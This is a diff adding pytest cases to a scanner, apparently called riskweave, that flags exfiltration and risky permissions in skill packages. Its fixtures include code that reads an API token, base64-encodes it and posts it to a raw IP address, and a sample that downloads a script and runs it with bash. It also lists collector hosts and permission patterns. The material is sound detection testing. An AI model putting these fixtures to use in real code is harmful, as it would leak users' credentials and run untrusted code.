@@ -6,8 +6,9 @@ import re
 import pytest
 from pyspark.sql import functions as F
 
-from riskweave.functions.lexicon import Scanner
+from riskweave.functions.lexicon import SIGNALS, Scanner
 from riskweave.functions.markdown import active_view
+from riskweave.functions.text import fnv1a
 from riskweave.operators import flow
 from riskweave.operators.external import external_addresses
 from riskweave.operators.flow import fold_file, statements
@@ -15,6 +16,7 @@ from riskweave.operators.rules import FILE_RULES, PACKAGE_RULES, RuleBook, file_
 from riskweave.plans import analyze as analyze_module
 from riskweave.plans.analyze import analyze
 from riskweave.plans.planted import PATHS, PLANTS, package_files, snippet
+from riskweave.operators.scoring import earlier_id
 from riskweave.sources import reports as R
 from riskweave.sources.packages import decoded, discover, packages, split_source
 
@@ -153,6 +155,56 @@ def test_flow():
     assert not fold_file("a.py", "x = 1\n" * 12_000)[1]
 
 
+def test_flow_reasons_name_changes_and_endpoints():
+    text = "k = os.environ['api_token']\nb = base64.b64encode(k)\nrequests.post('https://user@10.1.2.3:8080/x', data=json.dumps(b))"
+    assert [r["reason"] for r in fold_file("a.py", text)[0]] == ["verified-flow: credential data through base64 encoding, serialization reaches network at a raw address endpoint"]
+    classes = {"169.254.169.254": "cloud metadata", "127.0.0.9": "loopback", "[::1]": "loopback", "127.example": "", "a.ngrok.io": "collector", "8.8.8.8": "raw address", "api.openai.com": ""}
+    assert {h: flow.endpoint_class(h) for h in classes} == classes
+    assert flow.endpoint_class("discord.com", "/api/webhooks/1") == "collector" and flow.endpoint_class("discord.com", "/api/v9") == ""
+
+
+@pytest.mark.parametrize(
+    ("key", "url", "kind"),
+    [
+        ("openai_api_key", "https://api.openai.com/v1", "auth"), ("azure_openai_api_key", "https://me.openai.azure.com/v1", "auth"), ("azure_openai_api_key", "https://api.openai.com/v1", "finding"),
+        ("discord_token", "https://discord.com/api/v9", "auth"), ("discord_token", "https://discord.com/other", "finding"), ("discord_token", "https://discord.com/api/webhooks/1", "finding"),
+        ("openai_api_key", "https://api.openai.com@in.example/v1", "finding"), ("high_token", "https://api.github.com/x", "finding"), ("gh_token", "https://api.github.com/x", "auth"),
+    ],
+)
+def test_own_credentials_go_to_own_services(key, url, kind):
+    text = f"k = os.environ['{key}']\nu = '{url}'\nrequests.post(u, headers={{'authorization': 'bearer ' + k}})"
+    assert [r["kind"] for r in fold_file("a.py", text)[0]] == [kind]
+
+
+def test_earlier_ids(spark):
+    def plain(text):
+        h = 0x811C9DC5
+        for b in text.encode():
+            h = ((h ^ b) * 0x01000193) % (1 << 32)
+        return f"{h:08x}"
+
+    texts = ["", "a", "foobar", "ast01|é\x00ÿ", "x" * 300]
+    rows = spark.createDataFrame([(t,) for t in [*texts, None]], "t string").select("t", fnv1a(F.col("t")).alias("h"), earlier_id(F.lit("ast01"), F.col("t")).alias("i")).collect()
+    assert [r["h"] for r in rows] == [*map(plain, texts), None] and plain("foobar") == "bf9cf968"
+    assert rows[1]["i"] == "AST01-" + plain("ast01|a") and rows[-1]["i"] is None
+
+
+def test_a_manifest_grants_only_what_is_on(spark):
+    scanner = Scanner({"broad_cap": SIGNALS["broad_cap"]})
+    on = ['{"filesystem": true}', '{"permissions": ["*"]}', "permissions: *", "tools:\n  - shell", '["exec"]', '{"allow":"*"}']
+    off = ['{"filesystem": false}', '{"deny": "*"}', 'network.deny: "*"', '{"deny": ["*"]}', "shell: false", '{"hosts": "https://api.example.com/*"}']
+    assert all(scanner.mask(t) for t in on) and not any(scanner.mask(t) for t in off)
+
+
+def test_many_addresses_of_a_package_are_a_limit(spark):
+    def files(skill, n):
+        return [(skill, f"d{k}.md", "\n".join(f"See https://a.example/{k}/{i}" for i in range(min(200, n - k)))) for k in range(0, n, 200)]
+
+    rows = {r["skill_id"]: r for r in analyze(spark.createDataFrame([*files("few", 1_023), *files("many", 1_024)], "skill_id string, rel string, text string")).collect()}
+    assert rows["few"]["verdict"] == "benign" and rows["few"]["complete"]
+    assert rows["many"]["verdict"] == "suspicious" and "address inventory limit" in rows["many"]["summary"]
+
+
 def test_artifact_bridge_and_profiles(spark):
     files = spark.createDataFrame(
         [("p", "get.py", "d = requests.get('https://f.example/a').text\nopen('stage.py', 'w').write(d)"), ("p", "go.sh", "python x\nbash ./stage.py"), ("q", "x.py", None)], "skill_id string, rel string, text string"
